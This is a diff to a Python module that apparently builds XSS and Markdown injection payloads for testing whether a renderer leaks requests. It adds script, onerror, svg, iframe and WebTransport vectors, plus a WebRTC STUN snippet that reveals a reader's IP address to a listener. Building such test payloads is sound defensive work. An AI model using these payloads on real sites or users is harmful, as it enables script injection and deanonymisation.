@@ -7,6 +7,7 @@ Written for this project; the families are the ones that public lists of attacks
 from __future__ import annotations
 
 from collections.abc import Iterator
+from pathlib import Path
 
 # tag with {u}: an address that the listener hears. {n} is a running number.
 _TAGS = """
@@ -53,6 +54,11 @@ _TAGS = """
 <script>location = '{u}'</script>
 <script>open('{u}')</script>
 <script>document.title = 'taken'</script>
+<script>{r}</script>
+<img src="media/none.png" onerror="{r}">
+<svg><script>{r}</script></svg>
+<iframe srcdoc="<script>{r}</script>"></iframe>
+<script>new WebTransport('https://{d}/n{n}')</script>
 <noscript><img src="{u}"></noscript>
 <noscript><p title="</noscript><img src={u}>"></noscript>
 <template><img src="{u}"></template>
@@ -194,10 +200,18 @@ $x <img src="{u}"> y$
 """
 
 
-def attacks(http: str, tcp: str, websocket: str = "") -> Iterator[tuple[int, str, bool]]:
+# Asks a STUN server who it is, which tells that server the reader's address.
+_WEBRTC = (
+    "(async () => {{ const p = new RTCPeerConnection({{iceServers: [{{urls: `stun:{d}`}}]}});"
+    "p.createDataChannel(`x`); await p.setLocalDescription(await p.createOffer()); }})()"
+)
+
+
+def attacks(http: str, tcp: str, udp: str) -> Iterator[tuple[int, str, bool]]:
     """(number, source, is_markdown) of every attack.
 
-    `http` and `tcp` are "host:port" of listeners; each HTTP address ends in /n and the number.
+    `http`, `tcp` and `udp` are "host:port" of listeners; each HTTP address ends in /n and the
+    number.
     """
     number = 0
     for lines, is_markdown in ((_TAGS, False), (_MARKDOWN, True)):
@@ -209,12 +223,23 @@ def attacks(http: str, tcp: str, websocket: str = "") -> Iterator[tuple[int, str
                     u=f"http://{http}/n{number}",
                     t=f"http://{tcp}/",
                     w=f"ws://{http}/n{number}",
+                    r=_WEBRTC.format(d=udp),
+                    d=udp,
                     h=http,
                     n=number,
                     nl="\n",
                 ),
                 is_markdown,
             )
+
+
+def collected() -> list[str]:
+    """Payloads that others have collected, where they are on this machine; one on a line."""
+    folder = Path(__file__).resolve().parents[3] / "shared" / "corpora" / "xss"
+    lines: dict[str, None] = {}
+    for file in sorted(folder.rglob("*.txt")):
+        lines.update(dict.fromkeys(file.read_text("utf-8", "replace").splitlines()))
+    return [line for line in lines if line.strip()]
 
 
 # What a reader may click on; none of it may fetch anything, only the marked ones are told.
